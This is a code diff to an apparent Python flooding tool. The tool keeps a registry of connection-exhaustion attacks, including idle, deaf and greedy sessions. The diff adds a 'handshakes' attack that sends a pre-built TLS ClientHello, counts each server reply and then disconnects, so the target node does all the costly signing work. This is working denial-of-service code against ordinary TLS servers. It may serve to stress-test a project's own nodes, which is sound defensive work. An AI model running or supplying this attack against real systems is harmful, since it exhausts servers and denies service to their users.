@@ -10,9 +10,11 @@ from __future__ import annotations
 import asyncio
 import base64
 import contextlib
+import functools
 import json
 import os
 import resource
+import ssl
 import sys
 from collections import Counter
 from collections.abc import AsyncGenerator, Awaitable, Callable, Sequence
@@ -165,6 +167,25 @@ async def greedy_sessions(
     await reader.read()
 
 
+async def handshakes(
+    flood: Flood, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
+) -> None:
+    """Begin a handshake, and leave once the node has signed: all of the work is the node's."""
+    writer.write(_client_hello())
+    await writer.drain()
+    if await reader.read(1):
+        flood.counts["signed"] += 1
+
+
+@functools.cache
+def _client_hello() -> bytes:
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    with contextlib.suppress(ssl.SSLWantReadError):
+        context.wrap_bio(incoming, outgoing, server_hostname="node").do_handshake()
+    return outgoing.read()
+
+
 ATTACKS: dict[str, Attack] = {
     attack.__name__: attack
     for attack in (
@@ -176,6 +197,7 @@ ATTACKS: dict[str, Attack] = {
         idle_sessions,
         deaf_sessions,
         greedy_sessions,
+        handshakes,
     )
 }
 DEAF = ("read_nothing", "deaf_sessions")
